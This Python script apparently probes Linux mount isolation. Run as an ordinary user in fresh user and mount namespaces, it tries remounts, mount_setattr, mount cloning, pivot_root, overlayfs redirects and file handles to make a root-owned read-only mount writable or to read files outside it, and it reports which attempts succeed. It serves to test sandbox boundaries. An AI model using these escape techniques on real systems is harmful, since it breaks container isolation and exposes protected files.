"""What a user tries with the mounts that root has made; a program of its own, run as that user in namespaces of theirs.

usage: remounting.py MOUNT SECRET...

Tries to get a writable view of MOUNT, or one without its flags, and to read each SECRET, a file of the same file system
that does not lie below it. Prints a line for each attempt that succeeded, and in the end "done".
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import mmap
import os
import struct
import sys
from collections.abc import Callable

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_MOVE = 1, 32, 4096, 16384, 8192
AT_FDCWD, AT_EMPTY_PATH, AT_RECURSIVE = -100, 0x1000, 0x8000
OPEN_TREE_CLONE = 1
RDONLY, NOSUID, NODEV, IDMAP = 1, 2, 4, 0x100000
NR_OPEN_TREE, NR_MOVE_MOUNT, NR_MOUNT_SETATTR, NR_OPEN_TREE_ATTR = 428, 429, 442, 467
NR_FSCONFIG, NR_FSPICK, NR_PIVOT_ROOT = 431, 433, 155
MOVE_MOUNT_F_EMPTY_PATH, MOVE_MOUNT_BENEATH = 4, 0x200
FSCONFIG_SET_FLAG, FSCONFIG_CMD_RECONFIGURE = 0, 7
FS_IOC_SETFLAGS, FS_NOATIME_FL = 0x40086602, 0x80
MNT_DETACH = 2
FOREIGN = 9  # a descriptor of the mount in the host's own namespace, if there is one
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


class Attributes(ctypes.Structure):
    """struct mount_attr of mount_setattr(2)."""

    _fields_ = [(name, ctypes.c_uint64) for name in ("set", "clear", "propagation", "userns")]


class Handle(ctypes.Structure):
    """struct file_handle of name_to_handle_at(2)."""

    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def check(result: int) -> int:
    """Raise OSError for a failed call."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def syscall(number: int, *arguments: object) -> int:
    """syscall(2)."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return check(int(libc.syscall(ctypes.c_long(number), *words)))


def mount(source: str, target: str, flags: int) -> None:
    """mount(2)."""
    check(int(libc.mount(os.fsencode(source), os.fsencode(target), b"none", ctypes.c_ulong(flags), b"")))


def clear(descriptor: int, path: str, attributes: int, flags: int = 0) -> None:
    """mount_setattr(2): take flags away."""
    wanted = Attributes(clear=attributes)
    syscall(NR_MOUNT_SETATTR, descriptor, os.fsencode(path), flags, ctypes.byref(wanted), ctypes.sizeof(wanted))


def written(place: str) -> bool:
    """Whether anything can be written there, in whatever way."""
    ways: tuple[Callable[[], object], ...] = (
        lambda: os.close(os.open(f"{place}/written", os.O_CREAT | os.O_WRONLY)),
        lambda: os.chmod(f"{place}/bin", 0o777),
        lambda: os.utime(f"{place}/bin"),
        lambda: os.close(os.open(f"{place}/bin/env", os.O_WRONLY)),
        lambda: os.link(f"{place}/bin/env", f"{place}/bin/written"),
        lambda: os.chown(f"{place}/bin/env", 0, 0),
        lambda: os.setxattr(f"{place}/bin/env", "user.written", b""),
        lambda: os.close(os.open(place, os.O_TMPFILE | os.O_WRONLY)),
        lambda: os.truncate(f"{place}/bin/env", 0),
        lambda: os.rename(f"{place}/bin/env", f"{place}/bin/written"),
        lambda: os.symlink("/", f"{place}/written"),
        lambda: os.mkfifo(f"{place}/written"),
        lambda: reopened(f"{place}/bin/env"),
        lambda: fcntl.ioctl(os.open(f"{place}/bin", os.O_RDONLY), FS_IOC_SETFLAGS, struct.pack("l", FS_NOATIME_FL)),
    )
    for way in ways:
        with contextlib.suppress(OSError):
            way()
            return True
    return False


def reopened(path: str) -> None:
    """Open a file for writing by a descriptor of it, and by one of its mappings."""
    with open(path, "rb") as stream, mmap.mmap(stream.fileno(), 1, mmap.MAP_SHARED, mmap.PROT_READ):
        names = [f"/proc/self/fd/{stream.fileno()}", *(f"/proc/self/map_files/{n}" for n in mapped(path))]
        for name in names:
            with contextlib.suppress(OSError):
                os.close(os.open(name, os.O_WRONLY))
                return
    raise PermissionError


def mapped(path: str) -> list[str]:
    """The names of this process's mappings of a file, as /proc/self/map_files has them."""
    with open("/proc/self/maps") as lines:
        return [line.split()[0] for line in lines if line.endswith(f" {path}\n")]


def flags_of(place: str) -> int:
    """The flags of what is mounted there (statvfs(3) has those of mount(2))."""
    return os.statvfs(place).f_flag & (RDONLY | NOSUID | NODEV)


def attempt(name: str, place: str, way: Callable[[], object]) -> None:
    """Try one way, and tell what it has led to."""
    outcome = "refused"
    try:
        way()
        outcome = "done"
    except OSError:
        pass
    if written(place):
        print(f"{name} ({outcome}): written", flush=True)
    if flags_of(place) != RDONLY | NOSUID | NODEV:
        print(f"{name} ({outcome}): flags {flags_of(place)}", flush=True)


def try_place(name: str, place: str) -> None:
    """All that can be done to a mount where it is."""
    attempt(f"{name}, as it is", place, lambda: None)
    attempt(f"{name}, remount", place, lambda: mount("none", place, MS_REMOUNT | MS_BIND))
    attempt(f"{name}, remount of the file system", place, lambda: mount("none", place, MS_REMOUNT))
    for attributes in (RDONLY, NOSUID, NODEV, IDMAP, RDONLY | NOSUID | NODEV):
        for flags in (0, AT_RECURSIVE):
            here = (AT_FDCWD, place, attributes, flags)
            attempt(f"{name}, mount_setattr {attributes:x}", place, lambda here=here: clear(*here))  # type: ignore[misc]


def clone(source: str, target: str, flags: int) -> None:
    """open_tree(2), mount_setattr(2) on what has not been attached yet, move_mount(2)."""
    tree = syscall(NR_OPEN_TREE, AT_FDCWD, os.fsencode(source), OPEN_TREE_CLONE | flags)
    with contextlib.suppress(OSError):
        clear(tree, "", RDONLY | NOSUID | NODEV, AT_EMPTY_PATH | flags)
    syscall(NR_MOVE_MOUNT, tree, b"", AT_FDCWD, os.fsencode(target), 4)


def clone_with(source: str, directory: int, target: str, path: bytes, user_namespace: bool) -> None:
    """open_tree_attr(2): clone a mount without its flags, or with other ids; attach it."""
    wanted = Attributes(clear=RDONLY | NOSUID | NODEV)
    if user_namespace:
        wanted.set, wanted.userns = IDMAP, os.open("/proc/self/ns/user", os.O_RDONLY)
    attributes = (ctypes.byref(wanted), ctypes.sizeof(wanted))
    try:
        tree = syscall(NR_OPEN_TREE_ATTR, directory, path, OPEN_TREE_CLONE | AT_EMPTY_PATH, *attributes)
    except OSError:  # older than Linux 6.15, or refused
        tree = syscall(NR_OPEN_TREE, directory, path, OPEN_TREE_CLONE | AT_EMPTY_PATH)
        with contextlib.suppress(OSError):
            syscall(NR_MOUNT_SETATTR, tree, b"", AT_EMPTY_PATH, *attributes)
    syscall(NR_MOVE_MOUNT, tree, b"", AT_FDCWD, os.fsencode(target), MOVE_MOUNT_F_EMPTY_PATH)


def reconfigure(source: str) -> None:
    """fspick(2): make the file system itself writable."""
    picked = syscall(NR_FSPICK, AT_FDCWD, os.fsencode(source), 0)
    syscall(NR_FSCONFIG, picked, FSCONFIG_SET_FLAG, b"rw", None, 0)
    syscall(NR_FSCONFIG, picked, FSCONFIG_CMD_RECONFIGURE, None, None, 0)


def overlay(target: str, options: str) -> None:
    """An overlay of one's own."""
    check(int(libc.mount(b"overlay", os.fsencode(target), b"overlay", ctypes.c_ulong(0), options.encode())))


def beneath(source: str, target: str) -> None:
    """Put a file system of one's own below the mount, where it shows when that is gone."""
    tree = syscall(NR_OPEN_TREE, AT_FDCWD, os.fsencode(target), OPEN_TREE_CLONE)
    flags = MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_BENEATH
    syscall(NR_MOVE_MOUNT, tree, b"", AT_FDCWD, os.fsencode(source), flags)
    uncover(source)


def uncover(source: str) -> None:
    """Take the mount away, and so see what is below it."""
    check(int(libc.umount2(os.fsencode(source), MNT_DETACH)))
    print(f"{source} was uncovered", flush=True)


def upper(source: str, own: str) -> None:
    """Let overlayfs write to the mount."""
    os.mkdir(f"{own}/lower")
    overlay(own, f"userxattr,lowerdir={own}/lower,upperdir={source}/bin,workdir={source}/sbin")


def above(source: str, own: str) -> None:
    """Change a file by an overlay: its copy, unless something goes through to the file itself."""
    for name in ("upper", "work", "merged"):
        os.mkdir(f"{own}/{name}")
    overlay(f"{own}/merged", f"userxattr,lowerdir={source},upperdir={own}/upper,workdir={own}/work")
    written(f"{own}/merged")


def redirected(source: str, own: str, secret: str) -> None:
    """Have overlayfs look for the data of a file outside of the mount."""
    os.mkdir(f"{own}/stubs")
    os.mkdir(f"{own}/shown")
    for number, up in enumerate(("/..", "/bin/../..", "/../..")):
        stub = f"{own}/stubs/{number}"
        with open(stub, "wb") as stream:
            stream.truncate(1000)
        os.setxattr(stub, "user.overlay.metacopy", b"")
        os.setxattr(stub, "user.overlay.redirect", os.fsencode(f"{up}{secret}"))
    overlay(f"{own}/shown", f"userxattr,lowerdir={own}/stubs::{source}")
    for number in range(3):
        with contextlib.suppress(OSError), open(f"{own}/shown/{number}", "rb") as stream:
            print(f"redirect to {secret}: {stream.read()!r}", flush=True)


def pivot(source: str, own: str, secret: str) -> None:
    """Make the mount the root, and go above it."""
    if os.fork():
        os.wait()
        return
    try:
        check(int(libc.unshare(CLONE_NEWNS)))
        mount(source, own, MS_BIND | MS_REC)
        os.chdir(own)
        check(int(syscall(NR_PIVOT_ROOT, b".", b".")))
        check(int(libc.umount2(b".", MNT_DETACH)))
        for path in (f"/..{secret}", f"../..{secret}", f"/proc/self/root/..{secret}"):
            with contextlib.suppress(OSError), open(path, "rb"):
                print(f"{path} was opened", flush=True)
        if written(""):
            print("the root was written", flush=True)
    finally:
        os._exit(0)


def try_cleverly(source: str, level: int, secrets: list[str]) -> None:
    """What goes round the mount rather than at it."""
    ways: dict[str, Callable[[str], object]] = {
        "reconfigure": lambda own: reconfigure(source),
        "uncover": lambda own: uncover(source),
        "beneath": lambda own: beneath(source, own),
        "upper": lambda own: upper(source, own),
        "above": lambda own: above(source, own),
        "pivot": lambda own: pivot(source, own, secrets[0]),
        "redirect": lambda own: redirected(source, own, secrets[0]),
    }
    for name, way in ways.items():
        own = f"/mnt/{name}"
        os.mkdir(own)
        attempt(f"level {level}, {name}", source, lambda way=way, own=own: way(own))  # type: ignore[misc]
    clones: dict[str, Callable[[str], None]] = {
        "clone with attributes": lambda own: clone_with(source, AT_FDCWD, own, os.fsencode(source), False),
        "clone with ids": lambda own: clone_with(source, AT_FDCWD, own, os.fsencode(source), True),
        "clone of a descriptor": lambda own: clone_with(source, FOREIGN, own, b"", False),
        "clone of a descriptor with ids": lambda own: clone_with(source, FOREIGN, own, b"", True),
        "bind of a descriptor": lambda own: mount(f"/proc/self/fd/{FOREIGN}", own, MS_BIND),
        "attributes of a descriptor": lambda own: clear(FOREIGN, "", RDONLY | NOSUID | NODEV, AT_EMPTY_PATH),
        "bind of another's": lambda own: mount(f"/proc/{os.getppid()}/root{source}", own, MS_BIND),
    }
    try_ways(clones, "clever", level)


def try_ways(ways: dict[str, Callable[[str], None]], title: str, level: int) -> None:
    """Each to have the mount in a place of its own; all that is tried with it, where that has worked."""
    for number, (name, way) in enumerate(ways.items()):
        place = f"/mnt/{title}-{number}"
        os.mkdir(place)
        try:
            way(place)
        except OSError:
            continue
        try_place(f"level {level}, {name}", place)


def try_mount(source: str, level: int) -> None:
    """All of that, to the mount and to whatever else can be made of it."""
    try_place(f"level {level}, the mount", source)
    mount("none", "/", MS_REC | (1 << 18))
    check(int(libc.mount(b"tmpfs", b"/mnt", b"tmpfs", ctypes.c_ulong(0), b"")))
    ways: dict[str, Callable[[str], None]] = {
        "bind": lambda target: mount(source, target, MS_BIND),
        "rbind": lambda target: mount(source, target, MS_BIND | MS_REC),
        "bind of a directory": lambda target: mount(f"{source}/.", target, MS_BIND),
        "clone": lambda target: clone(source, target, 0),
        "recursive clone": lambda target: clone(source, target, AT_RECURSIVE),
        "move": lambda target: mount(source, target, MS_MOVE),
    }
    try_ways(ways, "plain", level)


def try_secrets(source: str, secrets: list[str]) -> None:
    """Open by file handles, which know of no mounts, what lies elsewhere on the file system."""
    top = os.open(source, os.O_RDONLY)
    for secret in secrets:
        handle, mount_id = Handle(size=128), ctypes.c_int()
        name = os.fsencode(secret)
        check(int(libc.name_to_handle_at(AT_FDCWD, name, ctypes.byref(handle), ctypes.byref(mount_id), 0)))
        for flags in (os.O_RDONLY, os.O_PATH, os.O_RDONLY | os.O_DIRECTORY):
            if libc.open_by_handle_at(top, ctypes.byref(handle), flags) >= 0:
                print(f"handle of {secret} ({flags:o}): opened", flush=True)


def main() -> None:
    """Try it here, and in namespaces inside of these."""
    source, *secrets = sys.argv[1:]
    try_secrets(source, secrets)
    for level in range(3):
        if level:
            check(int(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)))
            for name in ("setgroups", "uid_map", "gid_map"):
                with open(f"/proc/self/{name}", "w") as stream:
                    stream.write("deny" if name == "setgroups" else "0 0 1")
            try_secrets(source, secrets)
        try_mount(source, level)
        if secrets:
            try_cleverly(source, level, secrets)
        check(int(libc.umount2(b"/mnt", 2)))
    print("done")


if __name__ == "__main__":
    main()
